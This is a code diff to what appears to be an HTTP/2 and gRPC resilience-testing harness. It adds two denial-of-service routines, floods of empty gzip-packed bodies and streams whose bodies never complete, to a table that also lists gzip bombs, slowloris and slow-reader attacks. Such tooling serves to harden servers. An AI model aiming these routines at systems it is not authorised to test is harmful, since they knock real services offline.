@@ -9,7 +9,7 @@ import time
 
 from frames import (
     CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST, SETTINGS, WINDOW,
-    Peer, bomb, data_frames, field, frame, header_block, message, request,
+    Peer, bomb, data_frames, empty_blocks, field, frame, header_block, message, request,
 )
 
 SMALL = message(b"\n\x03\n\x01a")
@@ -127,6 +127,20 @@ def gzip_bomb(address, over, count):
         time.sleep(0.2)
 
 
+def packed_nothing(address, over, count):
+    """Packed bodies that unpack to nothing, and take long to."""
+    block = request(field("grpc-encoding", b"gzip"))
+    body = message(empty_blocks(60_000), compressed=1)
+    peer = Peer(address)
+    stream = 1
+    while not over():
+        for _ in range(10):
+            peer.send(frame(HEADERS, END_HEADERS, stream, block) + data_frames(stream, body, True))
+            stream += 2
+        count(10)
+        time.sleep(0.02)
+
+
 def held_calls(address, over, count):
     """Many calls of 1 MB, each held just before its end."""
     peer = Peer(address, settings=struct.pack(">HI", 4, 2**30))
@@ -193,6 +207,19 @@ def announced_lengths(address, over, count):
     prefix = struct.pack(">BI", 0, 250 << 20)
     for i in range(1000):
         peer.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, 0, 2 * i + 1, prefix))
+        count(1)
+    while not over():
+        time.sleep(0.1)
+    peer.close()
+
+
+def just_beyond_a_window(address, over, count):
+    """Bodies of which all but the end comes."""
+    peer = Peer(address)
+    block = request()
+    body = message(bytes(64_500), announced=64_512)
+    for i in range(1000):
+        peer.send(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + data_frames(2 * i + 1, body, False))
         count(1)
     while not over():
         time.sleep(0.1)
@@ -280,11 +307,13 @@ ATTACKS = {
     "unknown frames": unknown_frames,
     "15 MB of metadata": large_metadata,
     "1 MB that unpacks to 1 GB": gzip_bomb,
+    "packed bodies with nothing in them": packed_nothing,
     "2048 calls of 1 MB": held_calls,
     "answers that are not read": slow_reader,
     "answers without a window": closed_window,
     "half a preface": slowloris,
     "announced lengths": announced_lengths,
+    "bodies that miss their end": just_beyond_a_window,
     "streams beyond the limit": many_streams,
     "bodies byte by byte": dribble,
     "large bodies a byte a second": large_dribble,
